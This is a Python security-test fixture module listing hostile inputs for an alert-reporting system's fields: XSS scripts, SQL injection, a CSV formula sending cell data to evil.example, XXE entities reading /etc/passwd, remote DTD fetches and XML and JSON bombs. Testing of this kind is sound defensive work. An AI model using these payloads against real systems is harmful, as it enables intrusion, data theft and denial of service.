"""Hostile input, shared by the tests of every input of the system (tests/security/).

Each input either keeps a payload as inert text (stored exactly as written, shown escaped wherever
it is rendered) or refuses it with a message naming the field, storing nothing. Never a server error.
"""

from __future__ import annotations

import math

# Text a person could type into a description, a name or a warning, however odd it looks: kept as
# written, escaped where shown.
INERT_TEXT: dict[str, str] = {
    "script tag": '<script>alert("xss")</script>',
    "closing script tag": "</script><script>alert(1)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "javascript: URL": "javascript:alert(document.cookie)",
    "event handler attribute": '" autofocus onfocus="alert(1)" x="',
    "markdown link to javascript": "[click me](javascript:alert(1))",
    "markdown image from the internet": "![pixel](http://evil.example/pixel.png)",
    "streamlit markdown directives": ":red[ALARM] :material/warning: **bold** # heading",
    "SQL fragment": "'; DROP TABLE reports;--",
    "LIKE wildcards": "100% of _all_ %",
    "right-to-left override": "no power \u202egnp.exe",
    "CSV formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "template syntax": "{{ 7*7 }} {% if 1 %}x{% endif %} ${7*7}",
}
# The part of each INERT_TEXT payload that must never reach a page unescaped.
ACTIVE_MARKUP = ("<script", "<img", 'onfocus="alert', "</script>")

# Text no field keeps: control characters and text that is not Unicode.
REFUSED_TEXT: dict[str, str] = {
    "NUL byte": "no power\x00here",
    "terminal escape": "\x1b[2J\x1b[31mred",
    "lone surrogate": "no power \ud800",
}

MIB = 1024 * 1024
HUGE_TEXT = "停" * MIB  # a million characters, 3 MiB of UTF-8

# Numbers where a coordinate or an amount is expected.
HOSTILE_NUMBERS: dict[str, float | int] = {
    "NaN": math.nan,
    "Infinity": math.inf,
    "-Infinity": -math.inf,
    "1e308": 1e308,
    "integer of 400 digits": 10**400,
}

# Times where a report or warning time is expected.
HOSTILE_TIMES: dict[str, str] = {
    "year 9999": "9999-12-31T23:59:59+08:00",
    "year 1": "0001-01-01T00:00:00+00:00",
    "SQL in a time": "2026-07-01'; DROP TABLE reports;--",
}

DEEP_JSON = "[" * 100_000 + "]" * 100_000

# XML that must never be expanded or fetched.
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + b']>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>'
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>'
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE alert SYSTEM "http://evil.example/cap.dtd">\n'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>'
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>\n'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>'
)
HOSTILE_XML: dict[str, bytes] = {
    "billion laughs": BILLION_LAUGHS,
    "external entity (XXE)": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
    "broken UTF-8": b'<?xml version="1.0" encoding="UTF-8"?><alert>\xff\xfe</alert>',
}


def square_ring(
    vertices: int, lon: float = 121.02, lat: float = 28.02, size: float = 0.05
) -> list[list[float]]:
    """A closed ring of `vertices` points around a square (a valid polygon of any size)."""
    side = max(vertices // 4, 1)
    ring: list[list[float]] = []
    for n in range(side):
        ring.append([lon + size * n / side, lat])
    for n in range(side):
        ring.append([lon + size, lat + size * n / side])
    for n in range(side):
        ring.append([lon + size - size * n / side, lat + size])
    for n in range(side):
        ring.append([lon, lat + size - size * n / side])
    ring.append(ring[0])
    return ring
